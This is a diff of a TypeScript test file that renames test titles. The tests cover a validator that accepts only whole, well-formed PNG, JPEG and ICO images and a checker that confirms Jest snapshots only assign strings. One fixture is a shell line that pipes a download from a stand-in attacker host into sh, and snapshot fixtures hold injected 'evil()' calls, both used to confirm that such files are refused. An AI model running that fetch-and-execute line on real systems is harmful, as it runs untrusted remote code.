@@ -46,7 +46,7 @@ const script = latin("#!/bin/sh\ncurl evil.example | sh\n");
 describe.each(samples)("%s", (_what, extension, base64) => {
   const whole = bytesOf(base64);
 
-  it("is read whole under its own extension only", () => {
+  it("A picture is accepted under its own extension only", () => {
     // A view into a larger buffer.
     const view = new Uint8Array(Buffer.concat([zip, whole, zip])).subarray(22, -22);
     expect([isWhole(extension.toUpperCase(), view), isWholeImage(extension, whole)]).toEqual([true, false]);
@@ -54,7 +54,7 @@ describe.each(samples)("%s", (_what, extension, base64) => {
     expect(all.filter((one) => isWhole(one, whole))).toEqual([extension.replace("jpeg", "jpg")]);
   });
 
-  it("is refused without its last bytes, or with anything after or before it", () => {
+  it("A picture is refused if bytes are missing at its end or surround it", () => {
     const lengths = [...whole.keys()].filter((length) => isWhole(extension, whole.subarray(0, length)));
     const bytes = Array.from({ length: 256 }, (_, byte) => Buffer.from([byte]));
     const more = [zip, script, whole, ...bytes];
@@ -62,7 +62,7 @@ describe.each(samples)("%s", (_what, extension, base64) => {
     expect([lengths, accepted]).toEqual([[], []]);
   });
 
-  it("never throws if bytes change, and a PNG is refused then", () => {
+  it("A picture with changed bytes never throws, and a PNG is refused", () => {
     const edit = (at: number, skip: number, ...put: number[]) =>
       isWhole(extension, whole.subarray(0, at), Buffer.from(put), whole.subarray(at + skip));
     const flips = [...whole].flatMap((byte, at) => [1, 32, 255].map((bits) => edit(at, 1, byte ^ bits)));
@@ -92,7 +92,7 @@ describe("a PNG", () => {
     [false, "with frames of an animation", [chunk("acTL", numbers(1, 0)), idat]],
     [false, "with much text", [...Array(70).fill(chunk("tEXt", Buffer.alloc(1000))), idat]],
     [false, "of too many pixels", [idat]],
-  ])("is accepted (%s) %s", (isAccepted, what, chunks) => {
+  ])("A PNG is accepted (%s) %s", (isAccepted, what, chunks) => {
     const size = what === "of too many pixels" ? 2 ** 31 - 1 : 2;
     const header = chunk("IHDR", Buffer.concat([numbers(size, size), Buffer.from([8, 0, 0, 0, 0])]));
     expect(isWhole("png", latin("\x89PNG\r\n\x1a\n"), header, ...chunks, end)).toBe(isAccepted);
@@ -136,11 +136,11 @@ it.each<[isAccepted: boolean, what: string, extension: string, parts: Uint8Array
   [true, "an ICO with a mask", "ico", icon(64)],
   [false, "an ICO with something else than a mask", "ico", icon(16)],
   [false, "an ICO with a gap", "ico", icon(64, 4)],
-])("is accepted (%s): %s", (isAccepted, _what, extension, parts) =>
+])("A picture of a tool is accepted (%s): %s", (isAccepted, _what, extension, parts) =>
   expect(isWhole(extension, ...parts)).toBe(isAccepted),
 );
 
-it("pictures above 20 MB are refused, and hostile ones read soon", () => {
+it("Pictures above 20 MB are refused, and hostile ones are read in linear time", () => {
   expect(isWhole("ico", named("an ICO of PNGs"), Buffer.alloc(20e6))).toBe(false);
   expect(isWhole("jpg", latin("\xff\xd8"), Buffer.alloc(19e6, 0xff))).toBe(false);
 });
@@ -191,7 +191,7 @@ describe("a snapshot", () => {
     ["that ends with a comment", "// Jest Snapshot v1"],
     ["with escaped holes", snapshotOf(`\\${hole} $\\{evil()} \u2028`)],
     ["of a megabyte", `${snapshotOf("\\\\ $ x".repeat(2e5))}\n`.repeat(2)],
-  ])("%s is plain", (_what, text) => {
+  ])("A snapshot %s is plain", (_what, text) => {
     expect(isPlainSnapshot(text)).toBe(true);
     expect(effectsOf(text)).toEqual([]);
   });
@@ -209,9 +209,9 @@ describe("a snapshot", () => {
     ["a value without an end", "exports[`a`] = `b\\`;"],
     ["a comment of another kind", "/* a */"],
     ["another object", "module.exports[`a`] = `b`;"],
-  ])("with %s is not plain", (_what, text) => expect(isPlainSnapshot(text)).toBe(false));
+  ])("A snapshot with %s is not plain", (_what, text) => expect(isPlainSnapshot(text)).toBe(false));
 
-  it("that is plain does nothing but assign strings", () => {
+  it("A plain snapshot assigns strings and does nothing else", () => {
     const fragment = fc.constantFrom(
       ...["exports[`", "`] = `", "`;", "`", "\\", "\\\\", "\\`", "\\${", "${", "$", "{", "}", "evil()", " "],
       ...[
